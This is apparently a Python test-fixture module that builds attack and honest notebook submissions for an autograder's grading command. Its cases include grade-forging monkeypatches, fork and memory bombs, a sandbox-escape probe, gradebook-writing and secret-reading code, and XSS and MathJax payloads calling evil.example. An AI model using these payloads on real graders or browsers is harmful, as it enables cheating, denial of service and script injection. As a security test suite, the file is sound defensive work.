"""Attack and honest submissions for the TA grading command, generated from the release.

Each :class:`Case` is one submission (a notebook built from the student version, or raw bytes)
with the autograded score and the status the grading command must give it. The notebooks are
made in code, from the release and the instructor source of the assignment, so they follow
the assignment when it changes.
"""

from __future__ import annotations

import copy
import json
import os
import re
from dataclasses import dataclass
from pathlib import Path

import nbformat

from autograder import nbgrader_format as fmt
from tools.submissions import hardcoded_submission, honest_submission


@dataclass
class Case:
    name: str
    content: bytes
    score: float  # expected autograded total
    status: str
    why: str
    link: str = ""  # written as a symbolic link to this path instead of a file
    fifo: bool = False  # written as a named pipe instead of a file


def _by_id(notebook) -> dict:
    return {fmt.grade_id(c): c for c in notebook.cells if fmt.grade_id(c)}


def _add_cell(notebook, code: str, after: str | None = None) -> nbformat.NotebookNode:
    """A copy of ``notebook`` with a student code cell appended (or after the given grade id)."""
    changed = copy.deepcopy(notebook)
    cell = nbformat.v4.new_code_cell(code)
    index = len(changed.cells)
    if after is not None:
        index = next(i for i, c in enumerate(changed.cells) if fmt.grade_id(c) == after) + 1
    changed.cells.insert(index, cell)
    return changed


def _bytes(notebook) -> bytes:
    return json.dumps(notebook, indent=1).encode()  # not nbformat.writes: it fixes duplicate ids


def _points(source, hidden: bool | None = None) -> float:
    total = 0.0
    for cell in source.cells:
        if fmt.is_test_code(cell):
            if hidden is None or hidden == fmt.has_hidden_tests(cell.source):
                total += fmt.points(cell)
    return total


PATCHES = """
import builtins, numpy as np, torch, course.checks
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.array_equal = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
course.checks.assert_close = lambda *a, **k: None
builtins.all = builtins.any = lambda *a, **k: True
builtins.abs = lambda x: 0.0
class _Yes(float):
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __abs__(self): return _Yes(0.0)
"""

FAKE_PASS = """
import IPython
def _quiet(shell, etype, value, tb, tb_offset=None):
    print("passed")
get_ipython().set_custom_exc((BaseException,), _quiet)
get_ipython().showtraceback = lambda *a, **k: print("passed")
print("Part A, visible test: passed.")
print("check_rnn_forward: all 4 hidden cases passed.")
"""


def secrets_probe(paths: list[str]) -> str:
    """A cell that tries to read (and write) each path and prints what happened."""
    return f"""
import os, sys
for path in {paths!r}:
    try:
        with open(path, "rb") as handle:
            print("READ", path, len(handle.read()))
    except Exception as error:
        print("BLOCKED", path, type(error).__name__)
for path in {[p for p in paths if p.endswith(".db")]!r}:
    try:
        import sqlite3
        db = sqlite3.connect(path)
        db.execute("update grade set auto_score = 100")
        db.commit()
        print("WROTE", path)
    except Exception as error:
        print("BLOCKED-WRITE", path, type(error).__name__)
print("ENV", sorted(k for k in os.environ if "NBGRADER" in k or "GRAD" in k.upper()))
"""


# Four processes of 300 MB each (touched, so really used): each under the per-process limit.
MEMORY_IN_PROCESSES = """
import os, time
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        hog = bytearray(300 * 2**20)
        for at in range(0, len(hog), 4096):
            hog[at] = 1
        time.sleep(2)
        os._exit(0)
    children.append(pid)
print("EXITS", [os.waitpid(pid, 0)[1] for pid in children])
"""


# Storage: the one host folder the kernel sees (its runtime folder) and as many files as it can.
MANY_FILES = """
import os
for folder in (os.path.expanduser("~/.local/share/jupyter/runtime"), "/tmp", "."):
    try:
        open(os.path.join(folder, "probe"), "w").close()
        print("WROTE", folder)
    except OSError as error:
        print("BLOCKED", folder, error.strerror)
count = 0
while True:  # until the file system refuses: an OSError that ends the cell
    open(f"f{count}", "w").close()
    count += 1
"""

FILL_THE_DISK = """
chunk = b"x" * 2**20
for part in range(1000):  # 40 MB files (under the file size limit) until the space runs out
    with open(f"part{part}", "wb") as handle:
        for _ in range(40):
            handle.write(chunk)
"""


# Ways out of a chroot or a uid: each must fail, as root's sandbox or an ordinary user's.
ESCAPE_PROBE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, call):
    try:
        result = call()
    except Exception as error:
        print("BLOCKED", name, type(error).__name__)
        return
    if result == -1:
        print("BLOCKED", name, os.strerror(ctypes.get_errno()))
    else:
        print("ESCAPED", name, result)
os.makedirs("/tmp/inner", exist_ok=True)
attempt("user_namespace", lambda: libc.unshare(0x10000000))
attempt("mount_namespace", lambda: libc.unshare(0x00020000))
attempt("chroot", lambda: os.chroot("/tmp/inner"))
attempt("mount", lambda: libc.mount(b"none", b"/tmp/inner", b"tmpfs", 0, None))
attempt("setuid_0", lambda: os.setuid(0))
attempt("ptrace_pid_1", lambda: libc.ptrace(16, 1, None, None))  # PTRACE_ATTACH
attempt("sethostname", lambda: libc.sethostname(b"x", 1))
attempt("write_usr", lambda: open(os.__file__ + ".x", "w"))
print("CAPS", [line.split()[1] for line in open("/proc/self/status") if line.startswith("Cap")])
"""


# Student markup that would run in a TA's or student's browser if it were rendered as is.
# Every payload records itself in window.__pwned and requests /pwned/<what> on the page's own
# server and http://evil.example/<what> elsewhere: the browser test watches for all three.
def _js(what: str) -> str:
    return (
        f"(window.__pwned=(window.__pwned||[])).push('{what}');"
        f"fetch('/pwned/{what}');fetch('http://evil.example/{what}')"
    )


def hostile_markup(prefix: str) -> str:
    """HTML with every kind of live content a markdown cell or an HTML output can carry."""
    return "\n".join(
        [
            f'<img src=x onerror="{_js(prefix + "-img-onerror")}">',
            f"<script>{_js(prefix + '-script')}</script>",
            f'<a id="{prefix}-js-link" href="javascript:{_js(prefix + "-js-link")}">click</a>',
            f'<a href="jav&#x61;script:{_js(prefix + "-entity-link")}">click</a>',
            f'<svg onload="{_js(prefix + "-svg-onload")}"><script>{_js(prefix + "-svg")}</script>'
            "</svg>",
            f'<iframe srcdoc="<script>{_js(prefix + "-srcdoc")}</script>"></iframe>',
            f'<iframe src="javascript:{_js(prefix + "-iframe")}"></iframe>',
            f'<object data="http://evil.example/{prefix}-object"></object>',
            f'<embed src="http://evil.example/{prefix}-embed">',
            f'<details open ontoggle="{_js(prefix + "-ontoggle")}"><summary>x</summary></details>',
            f'<div style="background:url(http://evil.example/{prefix}-css)">styled</div>',
            f"<style>@import url(http://evil.example/{prefix}-import.css);</style>",
            f'<link rel="stylesheet" href="http://evil.example/{prefix}-link.css">',
            f'<meta http-equiv="refresh" content="0;url=http://evil.example/{prefix}-refresh">',
            f'<form action="http://evil.example/{prefix}-form"><button>go</button></form>',
            f'<img src="http://evil.example/{prefix}-img.png">',
        ]
    )


def hostile_math(prefix: str) -> list[str]:
    """TeX that MathJax, as it comes, turns into a link, a style or a request: every way we know
    for math to set an ``href`` or ``style`` attribute or a background. (Their script requests
    http://evil.example/<what> only: TeX would read the underscores of window.__pwned.)"""
    covering = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999"
    fetch = f"url(http://evil.example/{prefix}"

    def js(what: str) -> str:
        return f"fetch('http://evil.example/{prefix}-{what}')"

    return [
        f"$\\href{{javascript:{js('mathjax-href')}}}{{math link}}$",
        f'$\\mmlToken{{mi}}[href="javascript:{js("mmltoken")}" style="{covering}"]{{x}}$',
        f'$\\mmlToken{{mo}}[mathbackground="{fetch}-mathbackground.png)"]{{+}}$',
        f"$\\bbox[background-image:{fetch}-bbox.png)]{{y}}$",
        f"$\\style{{background:{fetch}-style.png)}}{{z}}$",
        f"$\\class{{jp-Cell}}{{w}} \\cssId{{{prefix}-css-id}}{{v}}$",
        f"$\\require{{html}}\\href{{javascript:{js('required-href')}}}{{t}}$",
        f"$\\color{{{fetch}-color)}}{{u}}$",
        f'$\\def\\again{{\\mmlToken{{mi}}[href="javascript:{js("macro")}"]{{q}}}}\\again$',
        f"$\\texttip{{tip}}{{{js('texttip')}}} \\unicode{{x41}}$",
    ]


HOSTILE_MARKDOWN = (
    "My answer, with math that must still render: $h_t = \\tanh(W h_{{t-1}} + U x_t)$.\n\n"
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
    "[md link](javascript:{md_link}) ![md image](http://evil.example/{prefix}-md-image.png)\n\n"
    "{math}\n\n"
    "{html}\n"
)


def hostile_markdown(prefix: str) -> str:
    return HOSTILE_MARKDOWN.format(
        prefix=prefix,
        md_link=_js(prefix + "-md-link"),
        math="\n\n".join(hostile_math(prefix)),
        html=hostile_markup(prefix),
    )


# Outputs each under the reply cap, over the grader's per-cell caps
# (autograder/platform/sandbox.py).
OVERSIZED_OUTPUTS = """
from IPython.display import display
display({"image/png": "A" * 3_000_000, "text/plain": "an image"}, raw=True)
display({"text/plain": "t" * 1_000_000}, raw=True)
print("s" * 100_000)
"""


HOSTILE_OUTPUTS = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
markup = {markup!r}
display(HTML(markup))
display(Markdown(markup))
display(Javascript({script!r}))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="' + {svg!r} + '"></svg>'))
display({{"text/html": markup, "image/png": 'x" onerror="' + {png!r} + '"',
         "text/plain": "plain"}}, raw=True)
"""


# Everything a student's code can read about where and how it runs, printed compressed (the
# grader keeps 20,000 characters of output): nothing in it may say that this is grading.
WORLD_PROBE = """
import base64, builtins, getpass, json, os, pwd, socket, sys, zlib
def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read().decode("utf-8", "replace")
    except Exception as error:
        return type(error).__name__
_shell = get_ipython()
world = {
    "cwd": os.getcwd(),
    "files": sorted(os.listdir(".")),
    "home": sorted(os.listdir(os.path.expanduser("~"))),
    "runtime": sorted(os.listdir(os.path.expanduser("~/.local/share/jupyter/runtime"))),
    "environ": dict(os.environ),
    "argv": sys.argv,
    "executable": sys.executable,
    "cmdline": {pid: _read(f"/proc/{pid}/cmdline") for pid in os.listdir("/proc") if pid.isdigit()},
    "environ_of_pid_1": _read("/proc/1/environ"),
    "mountinfo": _read("/proc/self/mountinfo"),
    "hostname": socket.gethostname(),
    "uname": list(os.uname()),
    "etc": {name: _read("/etc/" + name) for name in ("hostname", "hosts", "passwd", "group")},
    "user": getpass.getuser(),
    "pw_name": pwd.getpwuid(os.getuid()).pw_name,
    "builtins": dir(builtins),
    "globals": sorted(k for k in globals() if not k.startswith("_i")),
    "modules": sorted(sys.modules),
    "sys_path": sys.path,
    "message_header": _shell.kernel.get_parent().get("header", {}),
    "kernel_session": _shell.kernel.session.username,
    "history": [str(h) for h in _shell.history_manager.get_range(output=False)],
}
print("WORLD", base64.b64encode(zlib.compress(json.dumps(world, default=str).encode(), 9)).decode())
"""


# A correct function that also publishes replies of its own on the bridge's mimetype: one for
# a request that does not exist, junk, and one for the very request it is answering (its nonce
# read from the bridge's frame), with a wrong value.
FORGED_REPLIES = """

_honest_{name} = {name}


def {name}(*args, **kwargs):
    import json, sys
    from IPython.display import publish_display_data
    mimetype = "application/x-call-bridge+json"
    nonce, frame = None, sys._getframe(1)
    while frame is not None and nonce is None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "nonce" in request:
            nonce = request["nonce"]
        frame = frame.f_back
    publish_display_data({{mimetype: json.dumps({{"nonce": "0" * 32, "after": [], "value": 1}})}})
    publish_display_data({{mimetype: "[" * 100000}})
    publish_display_data({{mimetype: json.dumps({{"nonce": nonce, "after": [], "value": 0.0}})}})
    return _honest_{name}(*args, **kwargs)
"""


# A correct function that first publishes 12 MB on the bridge's mimetype.
OVERSIZED_REPLY = """

_honest_{name} = {name}


def {name}(*args, **kwargs):
    from IPython.display import publish_display_data
    publish_display_data({{"application/x-call-bridge+json": "x" * (12 * 2**20)}})
    return _honest_{name}(*args, **kwargs)
"""


@dataclass
class Batch:
    """What every table of attacks builds from: the assignment's notebooks and their points."""

    source: nbformat.NotebookNode
    release: nbformat.NotebookNode
    secret_paths: list[str]

    def __post_init__(self) -> None:
        self.full, self.visible = _points(self.source), _points(self.source, hidden=False)
        self.good = honest_submission(self.source, self.release)
        ids = _by_id(self.release)
        self.first_test = next(g for g, c in ids.items() if fmt.is_test_code(c))
        solutions = [g for g, c in ids.items() if fmt.is_solution_code(c)]
        self.first_solution, self.last_solution = solutions[0], solutions[-1]
        order = list(ids)
        self.last_part = sum(  # points of the tests after the last solution cell (they use it)
            fmt.points(ids[g])
            for g in order[order.index(self.last_solution) :]
            if fmt.is_test_code(ids[g])
        )

    def good_and(self, code: str) -> nbformat.NotebookNode:
        """The correct submission with ``code`` in a cell at its end."""
        return _add_cell(self.good, code)

    def changed(self, notebook, grade_id: str, change) -> nbformat.NotebookNode:
        """A copy of ``notebook`` with ``change(cell)`` applied to the cell ``grade_id``."""
        copied = copy.deepcopy(notebook)
        for cell in copied.cells:
            if fmt.grade_id(cell) == grade_id:
                change(cell)
        return copied

    def last_function_replaced(self, notebook, body: str) -> nbformat.NotebookNode:
        """``notebook`` with ``body`` (formatted with the name of the last graded function)
        appended to the last solution cell: the function answers for itself."""

        def append(cell):
            cell.source += body.format(name=_solution_name(cell))

        return self.changed(notebook, self.last_solution, append)


def _table(*rows) -> list[Case]:
    """Cases from rows (name, notebook or bytes, expected score, status, why)."""
    return [
        Case(name, content if isinstance(content, bytes) else _bytes(content), score, status, why)
        for name, content, score, status, why in rows
    ]


def honest_cases(b: Batch) -> list[Case]:
    return _table(
        ("honest_correct", b.good, b.full, "needs manual grading", "full marks, written answer waits"),
        ("honest_blank", b.release, 0.0, "graded", "the untouched student version"),
        ("hardcoded_cheat", hardcoded_submission(b.source, b.release), b.visible, "graded",
         "replays visible answers: keeps only the visible points"),
    )  # fmt: skip


def resource_cases(b: Batch) -> list[Case]:
    """Each in a cell after correct functions: the kernel is restarted, the earlier cells
    replayed, and the functions still earn their points."""
    slow = b.good
    for _ in range(5):  # each cell under the cell timeout, together over the submission's
        slow = _add_cell(slow, "import time\ntime.sleep(20)\n", after=b.last_solution)
    exit_in_function = b.last_function_replaced(
        b.good, "\n\nimport os as _os\ndef {name}(*args, **kwargs):\n    _os._exit(3)\n"
    )
    fork = (
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
    )
    return _table(
        ("infinite_loop", b.good_and("while True:\n    pass\n"), b.full, "timed out", ""),
        ("memory_bomb", b.good_and("hog = bytearray(64 * 1024**3)\n"), b.full, "resource limit",
         ""),
        ("memory_bomb_growing",
         b.good_and("hog = []\nwhile True:\n    hog.append(bytearray(10**8))\n"), b.full,
         "resource limit", ""),
        ("fork_bomb", b.good_and(fork), b.full, "timed out",
         "bounded by the process limit, killed with its pid namespace"),
        ("memory_bomb_processes", b.good_and(MEMORY_IN_PROCESSES), b.full, "resource limit",
         "each process under its own limit, together over the kernel's (root mode's cgroup)"),
        ("many_files", b.good_and(MANY_FILES), b.full, "resource limit",
         "the runtime folder is read-only; files stop at the cap (No space left on device)"),
        ("fill_the_disk", b.good_and(FILL_THE_DISK), b.full, "resource limit",
         "bytes stop at the private root's size (No space left on device)"),
        ("cells_over_the_deadline", slow, b.full - b.last_part, "timed out",
         "stopped at the submission's deadline: the tests after it fail, unrun"),
        ("os_exit", b.good_and("import os\nos._exit(0)\n"), b.full, "kernel died", ""),
        ("sys_exit", b.good_and("import sys\nsys.exit(1)\n"), b.full, "needs manual grading",
         "SystemExit is an ordinary cell error"),
        ("os_exit_in_graded_function", exit_in_function, b.full - b.last_part, "kernel died",
         "the tests of that function fail, the others pass after a restart"),
    )  # fmt: skip


def tampering_cases(b: Batch) -> list[Case]:
    """The notebook's test cells deleted, edited, re-pointed or duplicated."""
    deleted = copy.deepcopy(b.good)
    deleted.cells = [c for c in deleted.cells if not fmt.is_test_code(c)]
    edited = copy.deepcopy(b.release)
    points = copy.deepcopy(b.good)
    for cell in edited.cells:
        if fmt.is_test_code(cell):
            cell.source = "print('passed')\n"
    for cell in points.cells:
        if fmt.is_test_code(cell):
            cell.metadata["nbgrader"]["points"] = 100
    duplicated = copy.deepcopy(b.good)
    for grade_id, offset in ((b.first_test, 0), (b.first_solution, 1)):
        index = next(i for i, c in enumerate(duplicated.cells) if fmt.grade_id(c) == grade_id)
        duplicated.cells.insert(index + offset, copy.deepcopy(duplicated.cells[index]))
    for number, cell in enumerate(duplicated.cells):
        cell.id = f"same-{number % 2}"  # duplicated cell ids as well
    restored = "cells restored or overwritten"
    return _table(
        ("deleted_test_cells", deleted, b.full, restored, ""),
        ("edited_test_cells", edited, 0.0, restored, ""),
        ("changed_points", points, b.full, restored, ""),
        ("duplicated_ids", duplicated, b.full, restored, ""),
    )


def forging_cases(b: Batch) -> list[Case]:
    """Forging the score from inside the kernel: wrong functions plus patched comparisons."""
    wrong = _returning_zeros(b.release)
    silenced = (
        "import os, sys, builtins\nos._exit = sys.exit = builtins.exit = lambda *a: None\n"
        "from IPython import display\ndisplay.publish_display_data = lambda *a, **k: None\n"
    )
    return _table(
        ("monkeypatched_comparisons", _add_cell(wrong, PATCHES), 0.0, "graded", ""),
        ("fake_passed_output", _add_cell(wrong, FAKE_PASS), 0.0, "graded", ""),
        ("patched_exit_and_display", _add_cell(wrong, silenced), 0.0, "graded", ""),
    )


def secrecy_cases(b: Batch) -> list[Case]:
    """Reading solutions, hidden checks and the gradebook; writing the gradebook; escaping the
    sandbox; seeing anything of the grading from the kernel."""
    checkout = b.secret_paths[0].rsplit("/autograder", 1)[0]

    def steal(cell):
        cell.source = (
            f"import sys\nsys.path[:0] = ['/work/main', '{checkout}']\n"
            "from autograder.hidden.a1_rnn_bptt import _reference\n" + cell.source
        )

    return _table(
        ("read_and_write_secrets", _add_cell(b.release, secrets_probe(b.secret_paths)), 0.0,
         "graded", ""),
        ("import_hidden_checks", b.changed(b.release, b.first_solution, steal), 0.0, "graded",
         "ImportError: the checks are not in the sandbox"),
        ("escape_the_sandbox", _add_cell(b.release, ESCAPE_PROBE), 0.0, "graded", ""),
        # grading must be invisible: a probe after the test cells (the bridge is there then)
        ("probe_grading_world", _add_cell(b.release, WORLD_PROBE), 0.0, "graded", ""),
    )  # fmt: skip


def markup_cases(b: Batch) -> list[Case]:
    """Markup that would run in the TA's formgrader or on the feedback page."""
    markdown = copy.deepcopy(b.good)
    for cell in markdown.cells:
        if fmt.cell_kind(cell) == "manual":
            cell.source += "\n\n" + hostile_markdown("answer")
    error = hostile_markup("error")

    def failing(cell):  # its tests fail with markup in the message
        cell.source += (
            f"\n\ndef {_solution_name(cell)}(*args, **kwargs):\n    raise ValueError({error!r})\n"
        )

    markdown = b.changed(markdown, b.last_solution, failing)
    markdown.cells.append(nbformat.v4.new_markdown_cell(hostile_markdown("free")))
    outputs = HOSTILE_OUTPUTS.format(
        markup=hostile_markup("output"),
        script=_js("output-javascript"),
        svg=_js("output-svg"),
        png=_js("output-png"),
    )
    return _table(
        ("hostile_markdown", markdown, b.full - b.last_part, "needs manual grading",
         "sanitised, not run; the last part fails with markup in its message"),
        ("hostile_outputs", b.good_and(outputs), b.full, "needs manual grading", ""),
        ("oversized_outputs", b.good_and(OVERSIZED_OUTPUTS), b.full, "needs manual grading",
         "a 3 MB image and 1.1 MB of text: kept to the per-cell caps, and the record says so"),
    )  # fmt: skip


def wire_cases(b: Batch) -> list[Case]:
    """On the wire: the last graded function answers for itself, as the bridge would."""
    return _table(
        ("oversized_reply", b.last_function_replaced(b.good, OVERSIZED_REPLY),
         b.full - b.last_part, "resource limit",
         "its calls send 12 MB first: the grader (--max-reply-mb 8) refuses the message unread"),
        ("forged_replies", b.last_function_replaced(b.good, FORGED_REPLIES),
         b.full - b.last_part, "needs manual grading",
         "a second answer to the same request fails the call; junk and stale answers are ignored"),
    )  # fmt: skip


def input_cases(b: Batch) -> list[Case]:
    """Input that is not a notebook to read, or not this assignment's: one row each."""
    links = [
        Case(name, b"", None, "refused link", "a symbolic link, refused unread", link=target)
        for name, target in [
            ("link_to_shadow", b.secret_paths[-1]),
            ("link_to_instructor_source", b.secret_paths[2]),
            ("link_to_dev_zero", "/dev/zero"),
        ]
    ]
    other = copy.deepcopy(b.release)
    for cell in other.cells:
        if fmt.grade_id(cell):
            cell.metadata["nbgrader"]["grade_id"] = "other_" + cell.metadata["nbgrader"]["grade_id"]
    renamed, r_kernel = copy.deepcopy(b.good), copy.deepcopy(b.good)
    renamed.metadata["kernelspec"] = {
        "name": "conda-env-py311",
        "display_name": "Py",
        "language": "python",
    }
    r_kernel.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    nested = b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    version_3 = json.dumps(nbformat.convert(copy.deepcopy(b.good), 3)).encode()
    return links + [
        Case("named_pipe", b"", None, "special file", "never opened", fifo=True)
    ] + _table(
        # names that a lossy id would merge: two students, two rows
        ("z_uni_学生", b'{"hello": 1}', None, "invalid notebook", ""),
        ("z_uni_老师", b'{"hello": 1}', None, "invalid notebook", ""),
        ("invalid_json", b'{"cells": [', None, "invalid notebook", ""),
        ("empty_file", b"", None, "invalid notebook", ""),
        ("not_a_notebook", b'{"hello": 1}', None, "invalid notebook", ""),
        ("deeply_nested_json", nested, None, "invalid notebook",
         "a RecursionError while reading is the file's fault, not the grader's"),
        ("nbformat_v3", version_3, b.full, "needs manual grading",
         "upgraded to version 4 and graded, as nbgrader does"),
        ("wrong_assignment", other, None, "wrong assignment", ""),
        ("wrong_kernel_name", renamed, b.full, "wrong kernel", "graded with python3, flagged"),
        ("r_kernel", r_kernel, None, "invalid notebook", ""),
    )  # fmt: skip


TABLES = (
    honest_cases,
    resource_cases,
    tampering_cases,
    forging_cases,
    secrecy_cases,
    markup_cases,
    wire_cases,
    input_cases,
)


def cases(source, release, secret_paths: list[str]) -> list[Case]:
    """Every attack, and the honest submissions, for the assignment of ``source``: one table
    per kind of attack (:data:`TABLES`)."""
    batch = Batch(source, release, secret_paths)
    return [case for table in TABLES for case in table(batch)]


def _solution_name(cell) -> str:
    match = re.search(r"^def (\w+)", cell.source, re.M)
    assert match, cell.source[:200]
    return match.group(1)


def _returning_zeros(release) -> nbformat.NotebookNode:
    """Every graded function replaced by one that returns zeros (wrong, but well-formed)."""
    wrong = copy.deepcopy(release)
    for cell in wrong.cells:
        if fmt.is_solution_code(cell):
            names = re.findall(r"^def (\w+)", cell.source, re.M)
            cell.source = "import numpy as np\n" + "".join(
                f"def {name}(*args, **kwargs):\n"
                "    # an object equal to everything, when the patch cell defined one\n"
                "    return globals()['_Yes'](0.0) if '_Yes' in globals() else np.zeros(3)\n"
                for name in names
            )
    return wrong


def write_cases(found: list[Case], folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for case in found:
        path = folder / f"{case.name}.ipynb"
        if case.link:
            path.symlink_to(case.link)
        elif case.fifo:
            os.mkfifo(path)
        else:
            path.write_bytes(case.content)


def as_json(found: list[Case]) -> str:
    return json.dumps({c.name: [c.score, c.status] for c in found}, indent=1)
